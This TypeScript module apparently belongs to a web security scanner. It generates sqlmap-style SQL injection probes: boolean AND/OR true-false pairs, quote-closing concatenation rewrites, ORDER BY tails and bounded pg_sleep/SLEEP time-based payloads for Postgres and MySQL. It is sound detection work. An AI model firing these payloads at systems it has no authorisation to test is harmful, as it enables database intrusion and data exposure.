import type { Dbms } from "./sql-signatures.ts";

// The payload shapes, after sqlmap's boundaries: each closes the context the value sits in (a quoted
// literal, a bare number, a sort key) and leaves the SQL balanced so no comment is needed — the tail reuses
// the application's own closing quote, so the same payload works in `= '…'`, `LIKE '%…%'`, `('…')`,
// `(('…'))` and `IN ('…')`. The two condition numbers (7411, 7412) are stripped from every answer before
// comparing, so a page that echoes the payload does not tell the pairs apart.

export type QuoteChar = "'" | '"';

/** Concatenation that turns `'v'` + `'…'` back into `'v'`, per database; unknown databases try the common ones. */
export function concatOperators(dbms: Dbms | undefined): string[] {
  switch (dbms) {
    case "mssql":
      return ["+"];
    case "mysql":
      return [" "];
    case "sqlite":
    case "postgres":
    case "oracle":
      return ["||"];
    default:
      return ["||", "+"];
  }
}

export interface StringRewrite {
  /** `v'||'`: the same string to SQL, a different one to anything treating the input as data. */
  equivalent: string;
  /** `v'|||'`: the same characters but no valid SQL (a different value with MySQL's adjacent literals). */
  invalid: string;
  /** `qa'||'as` (a whole value, not a suffix): the value split in two and joined back by SQL. */
  split: string | undefined;
}

export function stringRewrite(value: string, quote: QuoteChar, operator: string): StringRewrite {
  const join = `${quote}${operator}${quote}`;
  const broken = operator === " " ? `${quote}*${quote}` : `${quote}${operator}*${quote}`;
  const at = Math.floor(value.length / 2);
  return {
    equivalent: `${value}${join}`,
    invalid: `${value}${broken}`,
    split: value.length >= 2 ? `${value.slice(0, at)}${join}${value.slice(at)}` : undefined,
  };
}

/**
 * `m-(m-n)` written from `m`, a number that on its own draws a different answer than `n`: SQL computes
 * `n`; a parser that reads the leading number (`parseInt`) sees `m`; a strict one refuses the value.
 */
export function numericRewrites(
  n: number,
  m: number,
): { equivalent: string; subquery: string; invalid: string } {
  const delta = m - n;
  const operand = delta < 0 ? `(${delta})` : String(delta);
  return {
    equivalent: `${m}-${operand}`,
    subquery: `${m}-(SELECT ${delta})`,
    invalid: `${m}-${operand}-`,
  };
}

/** A sort key followed by a second key: by position 1 (valid), by position 9999 (no such column), by a subquery. */
export const ORDER_BY_TAILS = { equivalent: ",1", invalid: ",9999", subquery: ",(SELECT 1)" } as const;

export interface BooleanPair {
  name: string;
  truthy: string;
  falsy: string;
  /** OR widens the query to every row: only sent where the request cannot write (see `mayWiden`). */
  widens: boolean;
}

/** True/false pairs for a quoted context; `')` pairs close one parenthesis for `IN ('…')` lists. */
export function stringPairs(quote: QuoteChar): BooleanPair[] {
  const q = quote;
  return [
    {
      name: `${q} AND`,
      truthy: `${q} AND ${q}7412${q}>${q}7411`,
      falsy: `${q} AND ${q}7411${q}>${q}7412`,
      widens: false,
    },
    {
      name: `${q} OR`,
      truthy: `${q} OR ${q}7412${q}>${q}7411`,
      falsy: `${q} OR ${q}7411${q}>${q}7412`,
      widens: true,
    },
    {
      name: `${q}) OR`,
      truthy: `${q}) OR (${q}7412${q}>${q}7411`,
      falsy: `${q}) OR (${q}7411${q}>${q}7412`,
      widens: true,
    },
  ];
}

export const NUMERIC_PAIRS: readonly BooleanPair[] = [
  { name: "AND", truthy: " AND 7412>7411", falsy: " AND 7411>7412", widens: false },
  { name: "OR", truthy: " OR 7412>7411", falsy: " OR 7411>7412", widens: true },
];

export type TimedContext = "string" | "numeric" | "order-by";

/** A bounded 1-second sleep and its 0-second control, per database that has one (SQLite has none). */
export function sleepPayloads(
  dbms: Dbms | undefined,
  context: TimedContext,
  quote: QuoteChar = "'",
): Array<{ dbms: Dbms; slow: string; control: string }> {
  const q = quote;
  const postgres = (seconds: number) =>
    context === "string"
      ? `${q}||(SELECT ${q}${q} FROM pg_sleep(${seconds}))||${q}`
      : context === "numeric"
        ? `-(SELECT 0 FROM pg_sleep(${seconds}))`
        : `,(SELECT 1 FROM pg_sleep(${seconds}))`;
  // A derived table runs the sleep once, not once per row.
  const mysql = (seconds: number) =>
    context === "string"
      ? `${q} AND (SELECT 1 FROM (SELECT SLEEP(${seconds}))qaas) AND ${q}1${q}=${q}1`
      : context === "numeric"
        ? `-(SELECT 0 FROM (SELECT SLEEP(${seconds}))qaas)`
        : `,(SELECT 1 FROM (SELECT SLEEP(${seconds}))qaas)`;
  const options: Array<{ dbms: Dbms; slow: string; control: string }> = [];
  if (dbms === undefined || dbms === "postgres")
    options.push({ dbms: "postgres", slow: postgres(1), control: postgres(0) });
  if (dbms === undefined || dbms === "mysql")
    options.push({ dbms: "mysql", slow: mysql(1), control: mysql(0) });
  return options;
}
